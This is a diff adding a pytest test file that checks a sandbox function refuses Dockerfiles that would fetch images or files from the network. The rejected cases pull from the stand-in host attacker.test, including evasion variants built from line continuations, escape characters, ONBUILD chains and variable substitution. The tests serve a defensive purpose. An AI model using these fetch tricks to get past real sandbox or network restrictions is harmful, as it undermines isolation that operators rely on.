@@ -1,0 +1,50 @@
+"""With a narrowed network, the engine fetches nothing for a project's Dockerfile."""
+
+import pytest
+
+from runbook_runner.core.errors import NotReadyError
+from runbook_runner.sandbox.images.fetches import refuse_fetches
+
+HERE = ("debian:12", "own/base")
+
+
+def refuse(text: str, **arguments: str) -> None:
+    refuse_fetches(text.encode(), arguments, lambda name: name in HERE, "mine/Dockerfile")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "FROM scratch\nCOPY a /a\n",
+        "# comment\nARG V=12\nFROM debian:${V} AS build\nFROM build\nCOPY --from=build /a /a\nCOPY --from=0 /b /b\n",
+        "from \\\n  # between\n  debian:12 as One\nFROM ONE\n",
+        "ARG BASE_IMAGE=snapshot:other\nFROM ${BASE_IMAGE}\nADD a.tar /\n",
+        "FROM debian:12\nRUN curl https://example.test\n",
+    ],
+)
+def test_what_the_engine_has_is_fine(text: str) -> None:
+    refuse(text, BASE_IMAGE="own/base")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "FROM attacker.test/x\n",
+        "ARG X=attacker.test/x\nFROM $X\n",
+        "FROM debian:12\nCOPY --from=attacker.test/x /a /a\n",
+        "FROM debian:12\nCOPY --from=$X /a /a\n",
+        "FROM debian:12\nADD https://attacker.test/x /x\n",
+        'FROM debian:12\nadd ["https://attacker.test/x", "/x"]\n',
+        "FROM debian:12\nADD \\\nhttp\\\n://attacker.test/x /x\n",
+        "FROM debian:12\nENV U=https://attacker.test\nADD $U /x\n",
+        "FROM debian:12\nADD git@github.com:a/b.git /x\n",
+        "FROM debian:12\nONBUILD ONBUILD ADD https://attacker.test/x /x\n",
+        "FROM --platform=linux/arm64 debian:12\n",
+        "FROM ${X:-attacker.test/x}\n",
+        "# escape=`\nFROM debian:12\nADD htt`\nps://attacker.test/x /x\n",
+    ],
+)
+def test_what_it_would_fetch_is_refused_with_the_way_out(text: str) -> None:
+    with pytest.raises(NotReadyError) as caught:
+        refuse(text)
+    assert "runbook snapshots build" in str(caught.value)
